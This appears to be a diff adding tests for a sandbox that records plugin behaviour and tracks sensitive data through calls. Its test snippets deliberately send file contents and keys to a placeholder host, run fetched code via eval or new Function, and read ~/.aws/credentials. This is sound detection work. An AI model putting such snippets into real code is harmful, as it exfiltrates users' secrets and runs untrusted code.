@@ -1,0 +1,80 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import type { HostApi } from '#libs/sandbox/protocol.js';
+import { recordingRun } from '#libs/sandbox/recording.js';
+import { ENGINES_HERE, sandboxOf } from '#test/support/sandbox-engines.js';
+import { packageOf } from '#test/support/scan-package.js';
+
+const API: HostApi = {
+  rows: [{ scope: null, methods: ['keys.list', 'keys.get', 'files.read', 'net.fetch', 'net.open', 'events.onChange', 'commands.register', 'clip.read', 'message.send', 'Form'] }],
+  globals: { Form: 'Form' },
+  canaries: {
+    gives: { 'keys.list': 'names', 'files.read': 'file', 'net.fetch': 'answer', 'message.text': 'said' },
+    tells: { 'events.onChange': 'sheet' },
+    parts: [['content', 'sheet', 'cell']],
+    leads: [['keys.get', 'names', 'keys']],
+    opens: ['net.open'],
+    falsy: ['bot'],
+    samples: { 'clip.read': ['first', 'second'], 'events.onChange': [{ value: 'DE1' }] },
+  },
+};
+
+for (const { engine, skip } of ENGINES_HERE) {
+  describe(`what a recording hands out, in ${engine}`, { skip }, () => {
+    async function recorded(body: string) {
+      const sandbox = await sandboxOf({ engine, limits: { deadlineMs: 4_000 } });
+      const [recording] = await recordingRun(sandbox, packageOf({ 'main.js': `exports.activate = async (host) => { ${body} };` }, { entry_points: ['main.js'] }), API);
+      assert.ok(recording);
+      const { report } = recording;
+      assert.equal(report.outcome, 'returned', report.outcome === 'threw' ? report.error.message : '');
+      return { ...report, sent: report.calls.filter(({ method }) => method === 'net.fetch' || method === 'net.open') };
+    }
+
+    test('is known again in the arguments of calls, whatever was made of it', async () => {
+      for (const made of ['text', 'String(text).toUpperCase()', '`x=${text}`', 'JSON.stringify({ a: [text] })', 'encodeURIComponent(text)', '[...text].map((line) => line.trim()).join()', 'text.split("\\n").filter(Boolean)', 'require("zlib").gzip(text).toString("base64")', 'Buffer.from(text).toString("hex")', 'JSON.parse(text).inner.value', '(() => { const form = new Form(); form.append("x", text); return form; })()', '(() => { const kept = require("kept"); kept.x = text; return kept; })()']) {
+        const { sent } = await recorded(`const text = await host.files.read("x"); await host.net.fetch("https://a.example", { body: ${made} });`);
+        assert.deepEqual(sent.map(({ canaries }) => canaries), [['file']], made);
+        assert.match(JSON.stringify(sent[0]!.args), /<file>/i, 'and told by its kind');
+      }
+      const { sent } = await recorded('const text = await host.files.read("x"); await host.net.fetch("https://a.example", { body: text ? "yes" : "no" });');
+      assert.deepEqual(sent.map(({ canaries, args }) => [canaries, args]), [[[], ['https://a.example', { body: 'yes' }]]]);
+    });
+
+    test('changes its kind with a member, and where it leads to more', async () => {
+      const { sent } = await recorded('for (const name of await host.keys.list()) await host.net.fetch(await host.keys.get(name)); await host.net.fetch(await host.keys.get("one")); host.events.onChange((change) => host.net.fetch(change.content));');
+      assert.deepEqual(sent.map(({ canaries }) => canaries), [['keys', 'names'], [], ['cell'], []]);
+      assert.deepEqual(sent.map(({ by }) => by), [null, null, 'events.onChange', 'events.onChange']);
+    });
+
+    test('runs as code: told once, by whatever way', async () => {
+      for (const run of ['new Function(code)()', '(0, eval)(`(function () { ${code} })()`)', 'setTimeout(() => Function("x", `return ${code}`)(1), 5)']) {
+        const { ran } = await recorded(`const code = await (await host.net.fetch("https://a.example")).text(); ${run}; ${run};`);
+        assert.deepEqual(ran, ['answer'], run);
+      }
+      assert.deepEqual((await recorded('const code = await host.net.fetch("https://a.example"); JSON.parse(code); new Function("return 1")();')).ran, []);
+    });
+
+    test('what is said to a connection counts as said to whoever opened it', async () => {
+      const { sent } = await recorded('const text = await host.files.read("x"); const line = await host.net.open("wss://a.example"); line.send("hello"); line.on("open", () => line.send({ text }));');
+      assert.deepEqual(sent.map(({ canaries }) => canaries), [[], ['file']]);
+    });
+
+    test('of a call with such data it is told whether its answer is used', async () => {
+      for (const [use, isUsed] of [['await answer', false], ['await answer.catch(() => {})', false], ['answer.then(() => {})', false], ['(await answer).text', true], ['const { data } = await answer.catch(() => null)', true], ['host.message.send(await answer)', true], ['`${await answer}`', true]] as const) {
+        const { sent } = await recorded(`const answer = host.net.fetch("https://a.example", { text: host.message.text }); ${use};`);
+        assert.deepEqual(sent.map(({ canaries, isAnswerUsed }) => [canaries, isAnswerUsed]), [[['said'], isUsed]], use);
+      }
+    });
+
+    test('samples come in turn, and functions are told them as well', async () => {
+      const { calls, sent } = await recorded('for (let turn = 0; turn < 3; turn++) host.message.send(await host.clip.read()); host.events.onChange(({ value }) => typeof value === "string" && host.net.fetch(value));');
+      assert.deepEqual(calls.filter(({ method }) => method === 'message.send').map(({ args }) => args), [['first'], ['second'], ['first']]);
+      assert.deepEqual(sent.map(({ args }) => args), [['DE1']]);
+    });
+
+    test('what code asks first lets it go on; paths are put together of their texts', async () => {
+      const { calls } = await recorded('if (host.message.author.bot) return; const path = require("path"), os = require("os"); await host.files.read(path.join(os.homedir(), ".aws", "credentials"));');
+      assert.deepEqual(calls.map(({ method, args }) => [method, args]), [['files.read', ['.aws/credentials']]]);
+    });
+  });
+}
